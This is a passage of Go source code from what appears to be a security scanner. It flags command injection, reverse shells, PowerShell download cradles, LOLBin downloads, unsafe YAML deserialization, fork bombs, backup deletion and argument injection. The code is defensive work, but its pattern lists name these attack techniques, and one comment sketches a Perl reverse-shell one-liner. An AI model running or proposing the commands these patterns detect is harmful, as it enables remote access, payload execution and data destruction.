		case opt == "c" || len(opt) >= 3 && strings.HasPrefix("command", opt):
			script := strings.Join(r.args[i+1:], " ")
			a.textSignalsOn(it, script, f)
			if depth < 2 {
				a.scriptSignals(it, a.parseShell(script), f, depth+1)
			}
		case opt == "w" || strings.HasPrefix(opt, "win"):
			if strings.EqualFold(next, "hidden") || next == "1" {
				evasion++
			}
		case opt == "nop" || opt == "noprofile" || opt == "noni" || opt == "noninteractive":
			evasion++
		case opt == "ep" || opt == "ex" || strings.HasPrefix(opt, "exec"):
			if strings.EqualFold(next, "bypass") || strings.EqualFold(next, "unrestricted") {
				evasion++
			}
		}
	}
	if evasion >= 2 {
		a.cmd.add("command_injection.powershell_evasion", it.field, sp, 0.35*f)
	}
}

// decodePowerShell decodes an -EncodedCommand value: base64 of UTF-16LE
// text.
func decodePowerShell(v string) (string, bool) {
	raw, ok := decodeBase64Bytes(strings.Trim(v, `'"`))
	if !ok || len(raw) < 2 {
		return "", false
	}
	if len(raw)%2 == 1 {
		raw = raw[:len(raw)-1]
	}
	u := make([]uint16, len(raw)/2)
	for i := range u {
		u[i] = uint16(raw[2*i]) | uint16(raw[2*i+1])<<8
	}
	s := string(utf16.Decode(u))
	if !printable(s) {
		return "", false
	}
	return s, true
}

// decodeBase64Bytes decodes standard or URL-safe base64, padded or not.
func decodeBase64Bytes(v string) ([]byte, bool) {
	v = strings.TrimSpace(v)
	if len(v) < 4 || len(v) > MaxStringBytes {
		return nil, false
	}
	t := strings.TrimRight(v, "=")
	for _, enc := range []*base64.Encoding{base64.RawStdEncoding, base64.RawURLEncoding} {
		if b, err := enc.DecodeString(t); err == nil {
			return b, true
		}
	}
	return nil, false
}

// decodeBase64 decodes v and returns the text when it is printable.
func decodeBase64(v string) (string, bool) {
	b, ok := decodeBase64Bytes(strings.Trim(v, `'"`))
	if !ok || len(b) < 4 {
		return "", false
	}
	s := string(b)
	return s, printable(s)
}

// printable reports whether s is valid UTF-8 text with few control
// characters (tab, newline and carriage return are text).
func printable(s string) bool {
	if !utf8.ValidString(s) || s == "" {
		return false
	}
	bad := 0
	for _, r := range s {
		if r < 0x20 && r != '\t' && r != '\n' && r != '\r' || r == 0x7f || r == utf8.RuneError {
			bad++
		}
	}
	return bad*20 <= len(s)
}

// textSignals applies the pattern checks that hold whatever the shell
// syntax (reverse shells in any language, PowerShell download cradles,
// LOLBins) to a string, with the weight factor of its mode.
func (a *analysis) textSignals(it *item, mode execMode) {
	f := factorExec
	switch mode {
	case modeValue:
		f = factorValue
	case modeData:
		f = a.dataFactor(it.s)
	}
	if f == factorDoc {
		a.cmd.markQuoted(it.field)
	}
	a.textSignalsOn(it, it.s, f)
}

// textSignalsOn is textSignals over text t found in it.
func (a *analysis) textSignalsOn(it *item, t string, f float64) {
	if len(t) < 6 {
		return
	}
	l := ""
	if t == it.s {
		l = it.lower()
	} else {
		l = strings.ToLower(t)
	}
	if len(l) > maxShellBytes {
		l = l[:maxShellBytes]
	}
	h := textAnchors.scan(l)
	sp := func() string { return a.spanAll(it.s) }
	if h.any("/dev/tcp/", "/dev/udp/", "/inet/tcp/", "/inet/udp/") {
		a.cmd.add("command_injection.reverse_shell", it.field, sp(), 0.9*f)
	}
	if h.has("net.sockets.tcpclient") && h.any("getstream", "iex", "invoke-expression", "streamwriter", "cmd") {
		a.cmd.add("command_injection.reverse_shell", it.field, sp(), 0.9*f)
	}
	if h.has("socket") && h.any("pty.spawn", "dup2(", "os.dup2", "subprocess.call([\"/bin/", "subprocess.call(['/bin/", "/bin/sh\",\"-i", "exec(\"/bin/sh", "'/bin/sh'", "\"/bin/sh\"", "cmd.exe") &&
		h.any("connect(", "tcpsocket", "fsockopen", "socket(") {
		a.cmd.add("command_injection.reverse_shell", it.field, sp(), 0.85*f)
	}
	if h.has("io::socket::inet") && h.any("open(stdin", "/bin/sh", "exec(", "cmd.exe") {
		// perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("h:p");open(STDIN,"<&",$s);…exec("/bin/sh -i")'
		a.cmd.add("command_injection.reverse_shell", it.field, sp(), 0.88*f)
	}
	if h.any("!!python/object/apply:", "!!python/object/new:", "!!python/name:", "!!python/module:", "tag:yaml.org,2002:python/object") && pythonGadget(l) ||
		h.any("!!javax.script.scriptenginemanager", "!!com.sun.rowset.jdbcrowsetimpl", "!!java.net.urlclassloader", "!ruby/object:gem::", "!ruby/hash:gem::") {
		// YAML tags that make a loader construct and call objects
		// (PyYAML's unsafe load, SnakeYAML, Psych): code execution when
		// the document is parsed, whatever tool parses it
		// (a document that explains the gadget, an advisory or a write-up,
		// keeps its documentation factor)
		w := 0.7 * max(f, factorValue)
		if f == factorDoc {
			w = 0.7 * f
		}
		a.cmd.add("command_injection.unsafe_deserialization", it.field, sp(), w)
	}
	if h.has("fsockopen(") && h.any("exec(", "shell_exec", "system(", "proc_open", "popen", "/bin/sh") {
		a.cmd.add("command_injection.reverse_shell", it.field, sp(), 0.88*f)
	}
	if (h.has("iex") || h.has("invoke-expression")) &&
		h.any("downloadstring", "downloaddata", "downloadfile", "invoke-webrequest", "iwr ", "iwr(", "irm ", "invoke-restmethod", "net.webclient", "start-bitstransfer") {
		a.cmd.add("command_injection.download_and_run", it.field, sp(), 0.9*f)
	}
	if h.any("print(os.environ)", "dict(os.environ)", "os.environ.items()", "json.dumps(dict(os.environ", "json.stringify(process.env)",
		"console.log(process.env)", "[environment]::getenvironmentvariables()", "object.entries(process.env)", "env.to_h", "%env") {
		a.sens.add("sensitive_path.environment_dump", it.field, sp(), 0.5*f)
	}
	if h.has("frombase64string") && h.any("iex", "invoke-expression", "[system.text.encoding]", "assembly]::load") {
		a.cmd.add("command_injection.decode_and_run", it.field, sp(), 0.75*f)
	}
	if h.has("certutil") && h.any("-urlcache", "/urlcache", "-verifyctl", "-decode", "http://", "https://") {
		a.cmd.add("command_injection.lolbin_download", it.field, sp(), 0.75*f)
	}
	if h.has("bitsadmin") && h.has("/transfer") {
		a.cmd.add("command_injection.lolbin_download", it.field, sp(), 0.7*f)
	}
	if h.has("mshta") && h.any("http://", "https://", "vbscript:", "javascript:") ||
		h.has("regsvr32") && h.has("/i:http") ||
		h.has("rundll32") && h.has("javascript:") {
		a.cmd.add("command_injection.lolbin_download", it.field, sp(), 0.85*f)
	}
	if h.has(":(){") || strings.Contains(strings.ReplaceAll(l, " ", ""), ":(){:|:&};:") {
		a.destr.add("destructive.fork_bomb", it.field, sp(), 0.85*f)
	}
	if h.has("nopasswd") && h.has("all") {
		a.priv.add("privileged.sudoers_nopasswd", it.field, sp(), 0.65*max(f, 0.8))
	}
	if h.has("set-mppreference") && h.has("-disable") ||
		h.has("add-mppreference") && h.has("exclusion") ||
		h.has("advfirewall") && h.has("state off") {
		a.priv.add("privileged.disable_security", it.field, sp(), 0.75*f)
	}
	if h.has("vssadmin") && h.has("delete shadows") || h.has("shadowcopy delete") ||
		h.has("wbadmin") && h.has("delete") || h.has("recoveryenabled no") {
		a.destr.add("destructive.backup_deletion", it.field, sp(), 0.9*f)
	}
}

// pythonGadgets are the callables a PyYAML python/ tag names to run
// something: a process, a shell, code, an import, a socket.
var pythonGadgets = []string{"subprocess.", "os.system", "os.popen", "os.exec", "posix.system", "builtins.eval", "builtins.exec", "__builtin__.eval",
	"__builtin__.exec", "builtins.__import__", "__import__", "commands.getoutput", "pty.spawn", "socket.socket", "eval", "exec"}

// pythonGadget reports a python/ YAML tag in l (lower case) whose target,
// within 48 bytes of it, is one of pythonGadgets: "apply:builtins.len" in
// a test of the loader runs nothing.
func pythonGadget(l string) bool {
	for i := 0; i < len(l); {
		j := strings.Index(l[i:], "python/")
		if j < 0 {
			return false
		}
		j += i
		if containsAny(l[j:min(len(l), j+48)], pythonGadgets...) {
			return true
		}
		i = j + 7
	}
	return false
}

func containsAny(s string, subs ...string) bool {
	for _, x := range subs {
		if strings.Contains(s, x) {
			return true
		}
	}
	return false
}

// hasAnyFlag reports whether args hold one of flags, alone or as the last
// letter of a short-option cluster (-nve for -e).
func hasAnyFlag(args []string, flags ...string) bool {
	for _, w := range args {
		for _, f := range flags {
			if w == f || strings.HasPrefix(f, "--") && strings.HasPrefix(w, f+"=") {
				return true
			}
			if len(f) == 2 && f[0] == '-' && len(w) > 2 && w[0] == '-' && w[1] != '-' && w[len(w)-1] == f[1] && isLetters(w[1:]) {
				return true
			}
		}
	}
	return false
}

func isLetters(s string) bool {
	for i := 0; i < len(s); i++ {
		if !('a' <= s[i] && s[i] <= 'z' || 'A' <= s[i] && s[i] <= 'Z') {
			return false
		}
	}
	return s != ""
}

func anyEq(args []string, vals ...string) bool {
	for _, w := range args {
		for _, v := range vals {
			if w == v {
				return true
			}
		}
	}
	return false
}

func anyHasPrefix(args []string, p string) bool {
	for _, w := range args {
		if strings.HasPrefix(w, p) {
			return true
		}
	}
	return false
}

func anyContains(args []string, sub string) bool {
	for _, w := range args {
		if strings.Contains(w, sub) {
			return true
		}
	}
	return false
}

// fetchOutputs returns the files a curl/wget/iwr command writes
// (-o/-O/--output/-OutFile, a > redirection, curl -O's URL base name).
func fetchOutputs(c *shCmd, r resolved) []string {
	var out []string
	for i, w := range r.args {
		lw := strings.ToLower(w)
		switch {
		case (w == "-o" || w == "-O" || lw == "--output" || lw == "--output-document" || lw == "-outfile" || lw == "-out") && i+1 < len(r.args):
			if r.args[i+1] != "-" {
				out = append(out, r.args[i+1])
			}
		case strings.HasPrefix(lw, "--output=") || strings.HasPrefix(lw, "--output-document="):
			out = append(out, w[strings.IndexByte(w, '=')+1:])
		}
		if (w == "-O" || w == "-LO" || w == "-sLO" || w == "-fsSLO") && r.name == "curl" {
			for _, u := range r.args {
				if strings.Contains(u, "://") {
					out = append(out, baseName(u))
				}
			}
		}
	}
	if r.name == "wget" && len(out) == 0 {
		for _, u := range r.args {
			if strings.Contains(u, "://") {
				out = append(out, baseName(u))
			}
		}
	}
	for _, rd := range c.redirs {
		if rd.op == ">" || rd.op == ">>" {
			out = append(out, rd.target)
		}
	}
	return out
}

// baseName is the last path element of p (a URL's too).
func baseName(p string) string {
	p = strings.TrimRight(p, "/")
	if i := strings.LastIndexAny(p, `/\`); i >= 0 {
		return p[i+1:]
	}
	return p
}

// runsFile reports a command that runs one of the files (./x, /tmp/x,
// sh x, python x, source x, . x).
func runsFile(r resolved, files map[string]bool) bool {
	if r.name == "chmod" {
		return false
	}
	if files[r.name] {
		return true
	}
	if shellCmds[r.name] || interpCmds[r.name] || r.name == "source" || r.name == "." || r.name == "start-process" || r.name == "start" {
		for _, w := range r.args {
			if strings.HasPrefix(w, "-") {
				continue
			}
			return files[w] || files[baseName(w)]
		}
	}
	return false
}

// dangerousOptions are options that make a program run a command or write
// a file chosen by whoever controls them; a value that smuggles one in
// after a space (a URL, a branch, a host) is an argument injection.
var dangerousOptions = []string{"--upload-pack", "--receive-pack", "-u", "--exec", "--config", "-c core.", "-ccore.",
	"core.sshcommand", "core.pager", "core.hookspath", "-oproxycommand", "-o proxycommand", "proxycommand=", "localcommand=",
	"--checkpoint-action", "--to-command", "--use-compress-program", "-exec", "--post-file", "--output", "-o/", "--rsh",
	"-e sh", "-e bash", "--eval", "--require", "--import", "-i/", "--template", "--script"}

// argumentInjection reads an ordinary value (not a command) for options
// smuggled into the command line it will be pasted into, and for git's
// ext:: transport, which runs a command.
func (a *analysis) argumentInjection(it *item) {
	s := strings.TrimSpace(it.s)
	if len(s) < 4 || len(s) > 2048 || it.kc == keyData {
		return
	}
	l := strings.ToLower(s)
	if strings.HasPrefix(l, "ext::") || strings.HasPrefix(l, "fd::") {
		a.cmd.add("command_injection.argument_injection", it.field, a.spanAll(it.s), 0.7)
		return
	}
	fields := strings.Fields(l)
	lead := s[0] == '-' && (it.kc == keyHost || it.kc == keyPath || it.kc == keyShort)
	if len(fields) < 2 && !lead {
		return
	}
	rest := l
	if !lead {
		rest = strings.Join(fields[1:], " ")
	}
	for _, o := range dangerousOptions {
		if strings.HasPrefix(rest, o) || strings.Contains(rest, " "+o) {
			if o == "-u" || o == "--output" || o == "--template" || o == "--script" || o == "--import" || o == "--require" {
				// Short or common options count only with a path or
				// command after them.
				if !strings.ContainsAny(rest, "/\\=") {
					continue
				}
			}
			a.cmd.add("command_injection.argument_injection", it.field, a.spanAll(it.s), 0.6)
			return
		}
	}
}

// hasShortFlag reports whether a short-option cluster in args (-rniE)
// holds one of letters.
func hasShortFlag(args []string, letters ...byte) bool {
	for _, w := range args {
		if len(w) < 2 || w[0] != '-' || w[1] == '-' || !isLetters(w[1:]) {
			continue
		}
		for _, l := range letters {
			if strings.IndexByte(w[1:], l) >= 0 {
				return true
			}
		}
	}
	return false
}

// textAnchors are the substrings textSignalsOn tests.
var textAnchors = newAnchorSet("io::socket::inet", "open(stdin", "!!python/object/apply:", "!!python/object/new:", "!!python/name:", "!!python/module:", "tag:yaml.org,2002:python/object",
	"!!javax.script.scriptenginemanager", "!!com.sun.rowset.jdbcrowsetimpl", "!!java.net.urlclassloader", "!ruby/object:gem::", "!ruby/hash:gem::", "/dev/tcp/", "/dev/udp/", "/inet/tcp/", "/inet/udp/", "net.sockets.tcpclient", "getstream", "iex", "invoke-expression", "streamwriter", "cmd", "socket", "pty.spawn", "dup2(", "os.dup2", "subprocess.call([\"/bin/", "subprocess.call(['/bin/", "/bin/sh\",\"-i", "exec(\"/bin/sh", "'/bin/sh'", "\"/bin/sh\"", "cmd.exe", "connect(", "tcpsocket", "fsockopen", "socket(", "fsockopen(", "exec(", "shell_exec", "system(", "proc_open", "popen", "/bin/sh", "downloadstring", "downloaddata", "downloadfile", "invoke-webrequest", "iwr ", "iwr(", "irm ", "invoke-restmethod", "net.webclient", "start-bitstransfer", "print(os.environ)", "dict(os.environ)", "os.environ.items()", "json.dumps(dict(os.environ", "json.stringify(process.env)", "console.log(process.env)", "[environment]::getenvironmentvariables()", "object.entries(process.env)", "env.to_h", "%env", "frombase64string", "[system.text.encoding]", "assembly]::load", "certutil", "-urlcache", "/urlcache", "-verifyctl", "-decode", "http://", "https://", "bitsadmin", "/transfer", "mshta", "vbscript:", "javascript:", "regsvr32", "/i:http", "rundll32", ":(){", "nopasswd", "all", "set-mppreference", "-disable", "add-mppreference", "exclusion", "advfirewall", "state off", "vssadmin", "delete shadows", "shadowcopy delete", "wbadmin", "delete", "recoveryenabled no")
